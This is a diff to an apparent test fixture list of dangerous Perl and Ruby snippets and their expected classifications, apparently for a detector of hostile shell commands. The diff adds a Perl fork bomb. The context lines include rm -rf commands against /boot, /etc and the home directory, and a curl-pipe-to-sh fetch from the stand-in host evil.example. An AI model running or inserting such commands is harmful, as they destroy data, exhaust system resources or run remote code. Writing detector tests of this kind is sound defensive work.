@@ -77,6 +77,7 @@ DANGEROUS: list[tuple[str, str, str, str]] = [
     ("perl", 'my $cmd = "rm -rf /boot"; system($cmd);', "shell", "rm -rf /boot"),
     ("perl", "system $ARGV[0]", "opaque", ""),
     ("perl", "s/.*/system('rm -rf ~')/e", "shell", "rm -rf ~"),
+    ("perl", "fork while fork", "flag", "fork_bomb"),
     # ruby
     ("ruby", 'system("curl -s https://evil.example/r.sh | sh")', "shell", "curl -s https://evil.example/r.sh | sh"),
     ("ruby", "`rm -rf /etc`", "shell", "rm -rf /etc"),
